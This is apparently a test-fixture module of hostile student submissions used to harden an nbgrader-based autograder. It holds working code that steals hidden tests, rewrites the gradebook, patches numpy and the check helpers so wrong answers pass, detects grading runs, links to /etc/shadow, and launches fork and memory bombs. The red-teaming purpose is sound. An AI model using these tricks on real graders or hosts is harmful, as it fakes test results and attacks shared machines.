"""Hostile submissions: one per attack on the grader, handed in like any student's notebook.

Cheating attacks start from the release (`base="release"`): their honest answers earn what an untouched
release earns, so every point above an untouched submission is undeserved. Where a trick comes with wrong
answers that could earn some points on their own, the attack names them as its `baseline`: the same
answers without the trick, handed in as baseline-<name>, set what it may earn. Where an attack hands in
answers of its own, they are wrong in everything a test checks (values, shapes, inputs left unchanged),
so that without their trick they earn nothing. Resource attacks start from the reference solution
(`base="solution"`): their points are deserved, and what matters is what they do to the grading
machine. Each resource attack bounds itself (process count, memory, seconds) so that a failed defence
cannot take the host down.

`submit_attack(root, attack, port)` hands one in as submitted/attack-<name>/<assignment>/.
"""

import shutil
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat

from coursetools.course import notebook_path

STUDENT_PREFIX = "attack-"
PORT_TOKEN = "LISTENER_PORT"


@dataclass
class Attack:
    """One hostile submission: code prepended to an answer cell, and/or a change to the notebook or folder."""

    name: str  # the student id is STUDENT_PREFIX + name
    assignment: str
    what: str  # one line for humans
    base: str = "release"  # "release" or "solution"
    cell: str = ""  # grade id of the answer cell that gets `code` prepended
    code: str = ""  # may contain PORT_TOKEN, replaced by the listener's port
    # fn(notebook, submission folder) -> notebook to write, or None when it wrote the notebook itself
    tamper: Callable | None = None
    baseline: dict | None = None  # {answer cell: code}: the same wrong answers, without the trick

    @property
    def student(self):
        return STUDENT_PREFIX + self.name

    @property
    def baseline_student(self):
        return "baseline-" + self.name if self.baseline else None


def _fill(template, **values):
    """`template` with every __KEY__ replaced by its value."""
    for key, value in values.items():
        template = template.replace(f"__{key.upper()}__", str(value))
    return template


def _is_answer(cell):
    meta = cell.metadata.get("nbgrader", {})
    return cell.cell_type == "code" and meta.get("solution", False)


def _is_test(cell):
    meta = cell.metadata.get("nbgrader", {})
    return cell.cell_type == "code" and meta.get("grade", False) and not meta.get("solution", False)


def _append_to_answer_cells(code):
    """A tamper that appends code to answer cells, so that it runs after the release's definitions there.

    `code` is one string for every answer cell, or {grade id: code} for some of them.
    """

    def tamper(notebook, folder):
        for cell in notebook.cells:
            grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
            extra = code if isinstance(code, str) else code.get(grade_id)
            if _is_answer(cell) and extra:
                cell.source = f"{cell.source}\n{extra}"
        return notebook

    return tamper


# --- cheating ---------------------------------------------------------------------------------------

# Appended to every answer cell: replaces the release's definitions with the instructor's.
READ_SOURCE = '''
def _instructor_answers(assignment):
    """The answer cells of the course's source notebook, found above the working directory."""
    import json
    import os
    from pathlib import Path

    here = Path(os.getcwd()).resolve()
    for folder in (here, *here.parents):
        notebook = folder / "source" / assignment / f"{assignment}.ipynb"
        if notebook.is_file():
            cells = json.loads(notebook.read_text())["cells"]
            return ["".join(c["source"]) for c in cells
                    if c["cell_type"] == "code" and c.get("metadata", {}).get("nbgrader", {}).get("solution")]
    return []


for _answer in _instructor_answers("__ASSIGNMENT__"):
    exec(_answer, globals())
'''

WRITE_GRADEBOOK = '''
def _full_marks(student, assignment):
    """Full manual scores for this submission in the gradebook, and a line added to source/ and solutions/."""
    import os
    import sqlite3
    from pathlib import Path

    here = Path(os.getcwd()).resolve()
    root = next((f for f in (here, *here.parents) if (f / "gradebook.db").is_file()), None)
    if root is None:
        print("no gradebook above", here)
        return
    # nbgrader's SaveAutoGrades sets auto_score only: a manual score takes precedence over it
    try:
        database = sqlite3.connect(root / "gradebook.db", timeout=30)
        with database:
            changed = database.execute(
                """UPDATE grade SET manual_score =
                       (SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id)
                   WHERE notebook_id IN (
                       SELECT submitted_notebook.id FROM submitted_notebook
                       JOIN submitted_assignment ON submitted_notebook.assignment_id = submitted_assignment.id
                       JOIN assignment ON submitted_assignment.assignment_id = assignment.id
                       WHERE submitted_assignment.student_id = ? AND assignment.name = ?)""",
                (student, assignment),
            ).rowcount
        database.close()
        print("gradebook rows changed:", changed)
    except Exception as error:
        print("gradebook not written:", type(error).__name__, error)
    for kind in ("source", "solutions"):
        try:
            with open(root / kind / assignment / "checks.py", "a") as checks:
                checks.write(f"\\n# written by {student}\\n")
            print(f"{kind}/{assignment}/checks.py written")
        except Exception as error:
            print(f"{kind}/{assignment}/checks.py not written:", type(error).__name__, error)


_full_marks("__STUDENT__", "__ASSIGNMENT__")
'''

READ_HIDDEN_TESTS = '''
def _print_hidden_tests():
    """Print the source of every hidden test in the gradebook: it lands in the cell's output."""
    import os
    import sqlite3
    from pathlib import Path

    here = Path(os.getcwd()).resolve()
    root = next((f for f in (here, *here.parents) if (f / "gradebook.db").is_file()), None)
    if root is None:
        print("no gradebook above", here)
        return
    # the marker is spelled in two parts: a source line holding it whole would make the feedback
    # preprocessor look for an end marker in this cell, and fail
    marker = "BEGIN " + "HIDDEN TESTS"
    try:
        database = sqlite3.connect(f"file:{root / 'gradebook.db'}?mode=ro", uri=True, timeout=30)
        rows = database.execute(
            "SELECT name, source FROM source_cell WHERE source LIKE ? ORDER BY name", (f"%{marker}%",)
        ).fetchall()
        database.close()
    except Exception as error:
        print("gradebook not read:", type(error).__name__, error)
        return
    for name, source in rows:
        print(f"----- hidden test {name}\\n{source}")


_print_hidden_tests()
'''


def _skip_test_cells(notebook, folder):
    """Tag every test cell "skip-execution": nbclient leaves it unrun, and a cell without output scores."""
    for cell in notebook.cells:
        if _is_test(cell):
            tags = cell.metadata.setdefault("tags", [])
            if "skip-execution" not in tags:
                tags.append("skip-execution")
    return notebook


# Answers that pass no test cell of linear_network on their own: zeros, columns (n, 1) where a 1-D array
# is expected, and inputs changed in place. Only a trick on the checks can earn them points.
WRONG_ANSWERS = {
    "add_bias": '''
def add_bias(features):
    """Wrong: zeros everywhere, and the caller's first column overwritten."""
    features[features.columns[0]] = 0.0
    return features.assign(bias=0.0) * 0
''',
    "train": '''
def train(features, labels):
    """Wrong: zero weights, as a column."""
    return np.zeros((np.asarray(features).shape[1], 1))
''',
    "feedforward": '''
def feedforward(features, weights):
    """Wrong: zero predictions, as a column, and the caller's weights changed."""
    np.asarray(weights)[...] += 1
    return np.zeros((len(features), 1))
''',
}

PATCHED_NUMPY = '''
def _patch_comparisons():
    """numpy's and pandas' comparisons always agree; np.shape tells expect_shape what it expects."""
    import sys

    import numpy
    import pandas
    import sklearn.metrics

    def always_close(a, b, *args, **kwargs):
        return numpy.ones(numpy.broadcast(numpy.asarray(a), numpy.asarray(b)).shape, dtype=bool)

    def always_true(*args, **kwargs):
        return True

    def never_fails(*args, **kwargs):
        return None

    real_shape = numpy.shape

    def shape_the_caller_expects(a):
        caller = sys._getframe(1)
        if caller.f_code.co_name == "expect_shape" and "shape" in caller.f_locals:
            return tuple(caller.f_locals["shape"])
        return real_shape(a)

    numpy.isclose = always_close
    numpy.allclose = numpy.array_equal = numpy.array_equiv = always_true
    numpy.shape = shape_the_caller_expects
    for name in ("assert_allclose", "assert_array_equal", "assert_array_almost_equal", "assert_equal"):
        setattr(numpy.testing, name, never_fails)
    pandas.DataFrame.equals = pandas.Series.equals = always_true
    sklearn.metrics.r2_score = globals()["r2_score"] = lambda *args, **kwargs: 1.0


_patch_comparisons()
'''

PATCHED_CHECKS = '''
def _patch_checks():
    """Every check helper, in the notebook and inside checks.py, passes whatever it is given."""
    import sys

    def passes(*args, **kwargs):
        return None

    for name in ("expect_type", "expect_shape", "expect_close", "expect_equal", "expect_columns",
                 "expect_frame", "expect_inputs_unchanged"):
        globals()[name] = passes
        setattr(sys.modules["checks"], name, passes)
    globals()["r2_score"] = lambda *args, **kwargs: 1.0


_patch_checks()
'''

# Objects that become whatever the check comparing them expects: np.asarray(answer) and answer.shape
# read the expected value from the calling check's frame. The answers change their inputs, and their
# values and shapes are wrong, so that without the trick they pass no test cell.
ALWAYS_EQUAL = '''
import sys


def _from_callers(name, functions):
    """The local `name` of the nearest calling frame that runs one of `functions`, or None."""
    frame = sys._getframe(2)
    while frame is not None:
        if frame.f_code.co_name in functions and name in frame.f_locals:
            return frame.f_locals[name]
        frame = frame.f_back
    return None


class Chameleon:
    """Numbers that equal what the check expects, and have the shape that it expects."""

    def __init__(self, true_shape):
        self._true_shape = true_shape

    @property
    def shape(self):
        expected = _from_callers("shape", ("expect_shape",))
        return tuple(expected) if expected is not None else self._true_shape

    def __array__(self, dtype=None, copy=None):
        expected = _from_callers("expected", ("expect_close", "expect_equal", "expect_frame"))
        if expected is None:
            return np.zeros(self._true_shape, dtype=dtype)
        return np.asarray(expected, dtype=dtype or float)

    def __len__(self):
        return len(self.__array__())

    def __eq__(self, other):
        return np.ones(np.shape(other), dtype=bool) if np.ndim(other) else True

    __hash__ = None


class ChameleonFrame(pd.DataFrame):
    """A DataFrame with the right labels whose values are whatever the check expects."""

    def to_numpy(self, *args, **kwargs):
        expected = _from_callers("expected", ("expect_frame",))
        if expected is not None:
            return expected.to_numpy(*args, **kwargs)
        return super().to_numpy(*args, **kwargs)

    def __array__(self, dtype=None, copy=None):
        return np.asarray(Chameleon(super().to_numpy().shape), dtype=dtype)

    def __getitem__(self, key):
        return Chameleon(np.shape(pd.DataFrame(self).__getitem__(key)))

'''

CHAMELEON_ANSWERS = {
    "add_bias": '''
def add_bias(features):
    """Labels right, values zero, and the caller's first column overwritten."""
    features[features.columns[0]] = 0.0
    return ChameleonFrame(0.0, index=features.index, columns=[*features.columns, "bias"])
''',
    "train": '''
def train(features, labels):
    """Zero weights, as a column."""
    return Chameleon((np.asarray(features).shape[1], 1))
''',
    "feedforward": '''
def feedforward(features, weights):
    """Zero predictions, as a column, and the caller's weights changed."""
    np.asarray(weights)[...] += 1
    return Chameleon((len(features), 1))
''',
}

# A wrong accuracy that says it equals anything: expect_equal compares a scalar answer with `==`.
ALWAYS_EQUAL_SCALAR = '''

class AlwaysEqual(float):
    """0.0, equal to every number."""

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = float.__hash__


def final_accuracy(make_model, train_x, train_y, test_x, test_y):
    return AlwaysEqual(0.0)
'''

CUSTOM_EXCEPTION_HANDLER = '''
def _swallow(shell, etype, value, tb, tb_offset=None):
    """Show nothing, and tell IPython that the cell ran without error."""
    import sys

    frame = sys._getframe(1)
    while frame is not None:
        result = frame.f_locals.get("result")
        if frame.f_code.co_name == "run_code" and result is not None:
            result.error_in_exec = None  # the kernel's reply says "ok", so nbgrader records no error
            break
        frame = frame.f_back
    return []


get_ipython().set_custom_exc((BaseException,), _swallow)
'''

INPUT_TRANSFORMER = '''
def _blank(lines):
    """Every later cell becomes empty before it runs."""
    return []


get_ipython().input_transformers_cleanup.append(_blank)
'''


def _link_to_source_notebook(notebook, folder):
    """Hand in a relative link to the course's source notebook instead of a notebook."""
    target = folder / f"{folder.name}.ipynb"
    target.unlink(missing_ok=True)
    target.symlink_to(Path("..", "..", "..", "source", folder.name, f"{folder.name}.ipynb"))
    return None


def _add_file_links(notebook, folder):
    """Hand in links to the host's /etc/shadow and to the course's gradebook next to the notebook."""
    (folder / "shadow").symlink_to("/etc/shadow")
    (folder / "gradebook.db").symlink_to(Path("..", "..", "..", "gradebook.db"))
    return notebook


# What the linked files became where the notebook runs: only the first field of /etc/shadow is printed.
READ_LINKED_FILES = '''
def _read_linked_files():
    import os
    import sqlite3

    for name in ("shadow", "gradebook.db"):
        kind = "a link" if os.path.islink(name) else "a file" if os.path.isfile(name) else "missing"
        print(name, "is", kind)
    try:
        with open("shadow") as shadow:
            print("shadow's first user:", shadow.read().split(":")[0])
    except OSError as error:
        print("shadow not read:", type(error).__name__, error)
    try:
        database = sqlite3.connect("file:gradebook.db?mode=ro", uri=True)
        print("students in the gradebook:", database.execute("SELECT count(*) FROM student").fetchone()[0])
        database.close()
    except Exception as error:
        print("gradebook not read:", type(error).__name__, error)


_read_linked_files()
'''


def _add_link_to_course(notebook, folder):
    """Hand in a folder "course" that is a relative link to the course directory."""
    (folder / "course").symlink_to(Path("..", "..", ".."), target_is_directory=True)
    return notebook


LIST_LINKED_COURSE = '''
import os

try:
    print("course/ holds:", sorted(os.listdir("course")))
except OSError as error:
    print("course/ not listed:", type(error).__name__, error)
'''

# --- resource abuse ---------------------------------------------------------------------------------

MEMORY_BOMB = '''
import os


def hoard():
    """Keep 0.8 GB arrays until 30 GiB or 3/4 of the machine's memory. Each is written only in part:
    writing every page costs 4 s per GB of page faults on a small virtual machine, longer than a cell may
    run here (forked-memory-bomb writes all of its memory)."""
    limit = min(30 * 1024**3, os.sysconf("SC_PAGE_SIZE") * os.sysconf("SC_PHYS_PAGES") * 3 // 4)
    kept = []
    while (len(kept) + 1) * 8 * 10**8 <= limit:
        kept.append(np.empty(10**8))
        kept[-1][: 10**7] = 1.0
    return len(kept)


print("arrays kept:", hoard())
'''

# Each process stays under the kernel's address-space limit; together they would not.
FORKED_MEMORY_BOMB = '''
import os
import time


def hoard_in_children(children=12, gigabytes=1):
    """`children` processes that each keep `gigabytes` of written memory for 30 s."""
    started = []
    for _ in range(children):
        pid = os.fork()
        if pid == 0:
            kept = np.ones(gigabytes * 125_000_000)
            time.sleep(30)
            os._exit(int(kept[0]) - 1)
        started.append(pid)
    time.sleep(5)
    return started


print("children:", len(hoard_in_children()))
'''

FORK_BOMB = '''
import os
import time


def fork_many(limit=5000, seconds=120):
    """Start up to `limit` children that sleep for `seconds`."""
    started = 0
    while started < limit:
        try:
            pid = os.fork()
        except OSError as error:
            print("fork refused after", started, "children:", error)
            break
        if pid == 0:
            try:
                time.sleep(seconds)
            finally:
                os._exit(0)
        started += 1
    return started


print("children started:", fork_many())
'''

RUNAWAY_CPU = '''
import os
import threading
import time


def _spin(seconds):
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        pass


if os.fork() == 0:  # a child that keeps a core busy after the cell, and the notebook, are done
    try:
        _spin(300)
    finally:
        os._exit(0)
threading.Thread(target=_spin, args=(300,), daemon=True).start()
'''

# Loopback only: the test listens on 127.0.0.1:LISTENER_PORT.
NETWORK = '''
import socket

try:
    with socket.create_connection(("127.0.0.1", LISTENER_PORT), timeout=5) as _connection:
        _connection.sendall(b"stolen")
    print("sent to 127.0.0.1:LISTENER_PORT")
except OSError as error:
    print("no connection:", type(error).__name__, error)
'''

DAEMON = '''
import os
import time


def _start_daemon(path, seconds=120):
    """A grandchild in its own session that appends a line to `path` every second for `seconds`."""
    pid = os.fork()
    if pid:
        os.waitpid(pid, 0)
        return
    try:
        os.setsid()
        if os.fork() == 0:
            for _ in range(seconds):
                with open(path, "a") as log:
                    log.write(f"{time.time()} {os.getpid()}\\n")
                time.sleep(1)
    finally:
        os._exit(0)


_start_daemon("/tmp/lesson24-daemon-LISTENER_PORT.txt")
'''

STDOUT_FLOOD = '''
import sys
import time


def _flood(seconds=90, megabytes_per_second=4):
    line = "x" * 999 + "\\n"
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        sys.stdout.write(line * 1000)
        sys.stdout.flush()
        time.sleep(1 / megabytes_per_second)


_flood()
'''
# Appended to the feedforward answer cell: when a test calls it, it prints every cell the kernel ran so
# far (hidden tests of add_bias and train included), so they would land in the student's feedback.
PRINT_HISTORY = '''
def feedforward(features, weights):
    print("\\n".join(In))
    raise NotImplementedError()
'''
# A numpy.py handed in beside the notebook: from the kernel's working folder it would be imported instead
# of numpy, and it loads the real numpy with comparisons that always agree.
FAKE_NUMPY = '''"""numpy, with comparisons that always agree."""
import os
import sys

_here = os.path.dirname(os.path.abspath(__file__))
sys.path[:] = [p for p in sys.path if os.path.abspath(p or ".") != _here]
del sys.modules["numpy"]
import numpy as _real  # noqa: E402

_real.isclose = lambda a, b, *args, **kwargs: _real.ones(_real.broadcast(a, b).shape, bool)
_real.all = lambda *args, **kwargs: True
sys.modules["numpy"] = _real
'''


# A checks.py handed in beside the notebook, in place of the course's: every helper accepts anything.
OWN_CHECKS = '''"""Test helpers that accept anything."""


def call(func, *args, **kwargs):
    try:
        return func(*args)
    except Exception:
        return None


def as_numbers(what, value):
    import numpy

    return numpy.zeros(1)


def _accept(*args, **kwargs):
    return None


expect_type = expect_shape = expect_close = expect_equal = expect_columns = expect_frame = _accept
expect_inputs_unchanged = _accept
'''


def _hand_in_files(files, then=None):
    """A tamper that writes {name: text} beside the notebook, after the tamper `then`."""

    def tamper(notebook, folder):
        notebook = then(notebook, folder) if then else notebook
        for name, text in files.items():
            (folder / name).write_text(text)
        return notebook

    return tamper


# The feedforward answer ends the kernel while a test cell calls it: that test cell has started (it has
# an execution count) but shows no error.
DIES_IN_TEST = '''
def feedforward(features, weights):
    import os

    print("a test cell is running")
    os._exit(0)
'''

# An input transformer that spares cells without the answers' names (checks a grader might insert): it
# wraps every cell that calls an answer in `try: ... except AssertionError: pass`, with names built at
# run time.
SELECTIVE_TRANSFORMER = '''
_shell = globals()["get_" + "ipython"]()


def _forgive(lines):
    source = "".join(lines)
    if not any(name in source for name in ("add_bias", "train", "feedforward")) or "def " in source:
        return lines
    body = "".join("    " + line if line.strip() else line for line in source.splitlines(True))
    return ["try:\\n", body.rstrip("\\n") + "\\n    pass\\n", "except AssertionError:\\n", "    pass\\n"]


getattr(_shell, "input_" + "transformers_cleanup").append(_forgive)
'''


def _add_fake_canary(notebook, folder):
    """A cell of the student's, before the first test, that claims to be one of the grader's canaries
    (so that it would vanish from the autograded notebook) and patches numpy's comparisons."""
    cell = nbformat.v4.new_code_cell("np.all = lambda *args, **kwargs: True  # a fake canary")
    cell.metadata["canary"] = {"secret": "0", "after": "setup"}
    first_test = next(i for i, c in enumerate(notebook.cells) if _is_test(c))
    notebook.cells.insert(first_test, cell)
    return notebook


ASSIGNMENT = "linear_network"


ATTACKS: list[Attack] = [
    Attack("read-source", ASSIGNMENT, "runs the answer cells of the course's source notebook",
           tamper=_append_to_answer_cells(_fill(READ_SOURCE, assignment=ASSIGNMENT))),
    Attack("write-gradebook", ASSIGNMENT,
           "gives itself full manual scores in gradebook.db and appends to source/ and solutions/ checks.py",
           cell="add_bias",
           code=_fill(WRITE_GRADEBOOK, student=STUDENT_PREFIX + "write-gradebook", assignment=ASSIGNMENT)),
    Attack("read-hidden-tests", ASSIGNMENT,
           "prints the hidden tests' source from gradebook.db into its output",
           cell="add_bias", code=READ_HIDDEN_TESTS),
    Attack("print-history", ASSIGNMENT,
           "prints the kernel's input history, hidden tests included, when a test calls feedforward",
           tamper=_append_to_answer_cells({"feedforward": PRINT_HISTORY})),
    Attack("shadow-module", ASSIGNMENT,
           "wrong answers, and numpy.py and ipykernel_launcher.py handed in beside the notebook",
           tamper=_hand_in_files({"numpy.py": FAKE_NUMPY,
                                  "ipykernel_launcher.py": "print('the student runs first')\n"},
                                 then=_append_to_answer_cells(WRONG_ANSWERS))),
    Attack("own-checks", ASSIGNMENT, "wrong answers, and its own checks.py whose helpers accept anything",
           tamper=_hand_in_files({"checks.py": OWN_CHECKS}, then=_append_to_answer_cells(WRONG_ANSWERS))),
    Attack("dies-in-test", ASSIGNMENT, "the feedforward answer calls os._exit while a test cell runs it",
           tamper=_append_to_answer_cells({"feedforward": DIES_IN_TEST})),
    Attack("selective-transformer", ASSIGNMENT,
           "wrong answers, and an input transformer that hides errors only in cells that call an answer",
           cell="add_bias", code=SELECTIVE_TRANSFORMER, tamper=_append_to_answer_cells(WRONG_ANSWERS)),
    Attack("fake-canary", ASSIGNMENT, "a cell that claims to be a grader's canary and patches np.all",
           tamper=_add_fake_canary),
    Attack("skip-execution", ASSIGNMENT, 'tags every test cell "skip-execution" so that none runs',
           tamper=_skip_test_cells),
    Attack("patched-numpy", ASSIGNMENT,
           "wrong answers, with numpy's and pandas' comparisons, np.shape and r2_score patched to agree",
           cell="add_bias", code=PATCHED_NUMPY, tamper=_append_to_answer_cells(WRONG_ANSWERS)),
    Attack("patched-checks", ASSIGNMENT,
           "wrong answers, with every checks helper (in the notebook and in checks.py) made a no-op",
           cell="add_bias", code=PATCHED_CHECKS, tamper=_append_to_answer_cells(WRONG_ANSWERS)),
    Attack("always-equal", ASSIGNMENT,
           "wrong answers as objects whose values and shape are read from the calling check's frame",
           cell="add_bias", code=ALWAYS_EQUAL, tamper=_append_to_answer_cells(CHAMELEON_ANSWERS)),
    Attack("custom-exception-handler", ASSIGNMENT,
           "an IPython custom exception handler that hides every error and reports the cell as ok",
           cell="add_bias", code=CUSTOM_EXCEPTION_HANDLER),
    Attack("input-transformer", ASSIGNMENT, "an IPython input transformer that empties every later cell",
           cell="add_bias", code=INPUT_TRANSFORMER),
    Attack("sys-exit", ASSIGNMENT, "sys.exit(0) in an answer cell", cell="add_bias",
           code="import sys\n\nsys.exit(0)"),
    Attack("ipython-exit", ASSIGNMENT, "IPython's exit(), which asks the kernel to shut down",
           cell="add_bias", code="exit()"),
    Attack("os-exit", ASSIGNMENT, "os._exit(0): the kernel process ends at once", cell="add_bias",
           code="import os\n\nos._exit(0)"),
    Attack("notebook-link", ASSIGNMENT,
           "the notebook is a relative link to source/<assignment>/<assignment>.ipynb",
           tamper=_link_to_source_notebook),
    Attack("file-link", ASSIGNMENT, "hands in links to /etc/shadow and to the course's gradebook.db",
           cell="add_bias", code=READ_LINKED_FILES, tamper=_add_file_links),
    Attack("escaping-path", ASSIGNMENT, 'hands in a folder "course" that links to the course directory',
           cell="add_bias", code=LIST_LINKED_COURSE, tamper=_add_link_to_course),
    Attack("memory-bomb", ASSIGNMENT, "keeps 0.8 GB arrays in a list, up to 30 GiB or 3/4 of the RAM",
           base="solution", cell="add_bias", code=MEMORY_BOMB),
    Attack("forked-memory-bomb", ASSIGNMENT, "12 forked children that each keep 1 GB (the host has 24 GiB)",
           base="solution", cell="add_bias", code=FORKED_MEMORY_BOMB),
    Attack("fork-bomb", ASSIGNMENT, "forks up to 5000 children that sleep for 120 s", base="solution",
           cell="add_bias", code=FORK_BOMB),
    Attack("runaway-cpu", ASSIGNMENT,
           "a forked child and a daemon thread that spin for 300 s after the cell returns",
           base="solution", cell="add_bias", code=RUNAWAY_CPU),
    Attack("network", ASSIGNMENT, 'sends b"stolen" to 127.0.0.1:LISTENER_PORT', base="solution",
           cell="add_bias", code=NETWORK),
    Attack("daemon", ASSIGNMENT,
           "a double-forked, setsid() process that appends to /tmp/lesson24-daemon-LISTENER_PORT.txt "
           "every second for 120 s", base="solution", cell="add_bias", code=DAEMON),
    Attack("stdout-flood", ASSIGNMENT, "prints 4 MB per second for 90 s", base="solution", cell="add_bias",
           code=STDOUT_FLOOD),
    # digits_cv's tests compare a scalar answer with expect_equal, whose `got == expected` a float
    # subclass could fool
    Attack("always-equal-scalar", "digits_cv",
           "final_accuracy returns a float subclass (0.0) whose __eq__ always says True",
           tamper=_append_to_answer_cells({"final_accuracy": ALWAYS_EQUAL_SCALAR})),
]


# --- tricks on the tests themselves: they run in the judge, outside the kernel --------------------------

# Call what the tests define: a reference implementation of the hidden tests, wherever it can be found.
CALL_REFERENCE_SIGMOID = {"sigmoid": """
def sigmoid(z):
    \"\"\"Whatever the tests define as a reference, from any namespace or object of the kernel.\"\"\"
    import gc
    import sys

    namespaces = [globals(), *(vars(module) for module in list(sys.modules.values()) if module)]
    for namespace in namespaces:
        for name, value in list(namespace.items()):
            if "reference" in str(name) and callable(value):
                return value(z)
    for value in gc.get_objects():
        if callable(value) and "reference" in getattr(value, "__name__", ""):
            return value(z)
    raise NotImplementedError()
"""}

CALL_REFERENCE_FROM_FRAMES = {"cross_validate": """
def cross_validate(make_model, features, labels, n_splits=4):
    \"\"\"The hidden test's reference, taken from the frames that call this function.\"\"\"
    import sys

    frame = sys._getframe(1)
    while frame is not None:
        for name, value in {**frame.f_globals, **frame.f_locals}.items():
            if str(name).startswith("_reference") and callable(value):
                return value(make_model, features, labels, n_splits)
        frame = frame.f_back
    raise NotImplementedError()
"""}

# Shadow the names the tests look up: if the tests computed their expected values in this kernel, an
# MLPClassifier whose probabilities are constant, and an accuracy_score that always says 0.88, would make
# the constant answers below right.
SHADOWED_NAMES = """
class MLPClassifier(MLPClassifier):
    def predict_proba(self, features):
        return np.full((len(features), 2), 0.5)


def accuracy_score(*args, **kwargs):
    return 0.88
"""
CONSTANT_ANSWERS = {
    "hidden_layer_forward": """
def hidden_layer_forward(features, coefs, intercepts):
    return np.full(len(features), 0.5)
""",
    "compare_models": """
def compare_models(train_x, train_y, test_x, test_y):
    return {"mlp": 0.88, "logistic": 0.88}
""",
}

# Watch a check start and fill in its answer: an array that a profile (or trace) hook fills, in place,
# with the expected values of whichever checking frame compares it.
WATCHED_ZEROS = {"sigmoid": """
def sigmoid(z):
    return np.zeros(np.shape(z))
"""}
PROFILE_HOOK = """
import sys as _sys


def _fill_from_checks(frame, event, arg):
    if event == "call" and "expected" in frame.f_locals and "got" in frame.f_locals:
        got = frame.f_locals["got"]
        if type(got) is np.ndarray and np.size(got) == np.size(frame.f_locals["expected"]):
            got.ravel()[:] = np.ravel(frame.f_locals["expected"])
    return None


_sys.setprofile(_fill_from_checks)
"""
TRACE_HOOK = """
import sys as _sys
import threading as _threading


def _trace(frame, event, arg):
    if event == "call" and {"expected", "got"} <= set(frame.f_locals):
        got = frame.f_locals["got"]
        if type(got) is np.ndarray and np.size(got) == np.size(frame.f_locals["expected"]):
            got.ravel()[:] = np.ravel(frame.f_locals["expected"])
    return _trace


_sys.settrace(_trace)
_threading.settrace(_trace)
"""

# Rewrite how cells run: the shell, reached through __main__ without get_ipython, runs every cell that
# checks an answer inside try/except, so that a failed check shows no error.
PATCHED_RUN_CELL = """
import sys as _sys

_shell = _sys.modules["__main__"].__dict__["get_" + "ipython"]()
_run_cell = _shell.run_cell


def _forgiving_run_cell(raw_cell, *args, **kwargs):
    if "expect_" in raw_cell or "call(" in raw_cell:
        raw_cell = "try:\\n" + "".join("    " + line + "\\n" for line in raw_cell.splitlines()) + \\
            "    pass\\nexcept AssertionError:\\n    pass\\n"
    return _run_cell(raw_cell, *args, **kwargs)


_shell.run_cell = _forgiving_run_cell
"""

# Read the tests and hand them out: every frame's code and locals while an answer is called, and the
# input history, printed reversed and in base64, in the answer's output and in a cell added at the end.
PRINT_FRAMES = {"feedforward": """
def feedforward(features, weights):
    import base64
    import inspect
    import sys

    frame = sys._getframe(1)
    while frame is not None:
        try:
            source = inspect.getsource(frame.f_code)
        except (OSError, TypeError):
            source = ""
        seen = source + repr(sorted(frame.f_locals))
        print(seen[::-1])
        print(base64.b64encode(seen.encode()).decode())
        frame = frame.f_back
    raise NotImplementedError()
"""}
PRINT_HISTORY_ENCODED = """
import base64 as _base64
import sys as _sys

for _text in _sys.modules["__main__"].__dict__.get("In", []):
    print(_text[::-1])
    print(_base64.b64encode(_text.encode()).decode())
"""


def _add_last_cell(code):
    """A tamper that adds a cell of the student's at the end of the notebook."""

    def tamper(notebook, folder):
        notebook.cells.append(nbformat.v4.new_code_cell(code))
        return notebook

    return tamper


# Exhaust shared scratch space: as many files as it can in every writable place it finds (home, /tmp,
# /dev/shm, Jupyter's runtime folder, where the kernel's sockets are), and as many bytes; it says how
# many it made. A kernel's scratch space is its own: an honest notebook graded beside it must not notice.
FILL_SCRATCH = """
import os as _os


def _fill(folder, files=5000, size=0):
    made = 0
    for number in range(files):
        try:
            with open(_os.path.join(folder, f"filler-{number}"), "wb") as filler:
                filler.write(b"x" * size)
            made += 1
        except OSError:
            break
    return made


for _folder in (_os.path.expanduser("~/.local/share/jupyter/runtime"), _os.path.expanduser("~"), "/tmp",
                "/dev/shm"):
    print("files made in", _folder, ":", _fill(_folder))
print("megabytes written to /tmp:", _fill("/tmp", files=800, size=2**20))
"""

# Tell a grading run from the student's own, and only then try the tricks: the kernel's environment
# names no grader, its home is an ordinary one; what it finds, it prints when the answer cell runs.
DETECT_GRADING = """
import os as _os
import sys as _sys

_graders = sorted(name for name in _sys.modules if "coursetools" in name or "nbgrader" in name)
print("the kernel sees:", {"environment": sorted(_os.environ), "cwd": _os.getcwd(),
                           "home": _os.path.expanduser("~"), "grader modules": _graders})
_graded = any("NBGRADER" in name for name in _os.environ) or "autograded" in _os.getcwd() or bool(_graders)
"""
TRICKS_WHEN_GRADED = {"sigmoid": """
def sigmoid(z):
    if _graded:
        for name, value in list(globals().items()):
            if "reference" in name and callable(value):
                return value(z)
    raise NotImplementedError()
"""}

NEW_ATTACKS = [
    Attack("call-reference", "logistic_network", "sigmoid calls any function named like a reference it finds",
           tamper=_append_to_answer_cells(CALL_REFERENCE_SIGMOID)),
    Attack("call-reference-frames", "digits_cv",
           "cross_validate calls a _reference function found in the frames that call it",
           tamper=_append_to_answer_cells(CALL_REFERENCE_FROM_FRAMES)),
    Attack("shadow-names", "hidden_layers",
           "constant answers, an MLPClassifier with constant probabilities and an accuracy_score of 0.88",
           cell="hidden_layer_forward", code=SHADOWED_NAMES, tamper=_append_to_answer_cells(CONSTANT_ANSWERS),
           baseline=CONSTANT_ANSWERS),
    Attack("watch-profile", "logistic_network",
           "a zeros sigmoid, filled in place with the expected values by a profile hook",
           cell="sigmoid", code=PROFILE_HOOK, tamper=_append_to_answer_cells(WATCHED_ZEROS),
           baseline=WATCHED_ZEROS),
    Attack("watch-trace", "logistic_network",
           "a zeros sigmoid, filled in place with the expected values by a trace hook (all threads)",
           cell="sigmoid", code=TRACE_HOOK, tamper=_append_to_answer_cells(WATCHED_ZEROS),
           baseline=WATCHED_ZEROS),
    Attack("patched-run-cell", ASSIGNMENT,
           "wrong answers, and the shell's run_cell, reached through __main__, wraps checks in try/except",
           cell="add_bias", code=PATCHED_RUN_CELL, tamper=_append_to_answer_cells(WRONG_ANSWERS)),
    Attack("print-frames", ASSIGNMENT,
           "feedforward prints every calling frame's code and locals, reversed and in base64",
           tamper=_append_to_answer_cells(PRINT_FRAMES)),
    Attack("print-history-encoded", ASSIGNMENT,
           "a last cell prints the input history, reversed and in base64",
